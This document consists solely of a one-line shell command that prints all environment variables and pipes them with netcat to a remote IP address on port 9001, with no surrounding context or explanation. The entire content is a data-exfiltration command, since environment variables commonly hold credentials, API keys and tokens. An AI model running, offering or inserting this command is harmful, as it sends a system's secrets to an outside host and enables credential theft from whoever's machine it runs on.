printenv | nc 198.51.100.4 9001
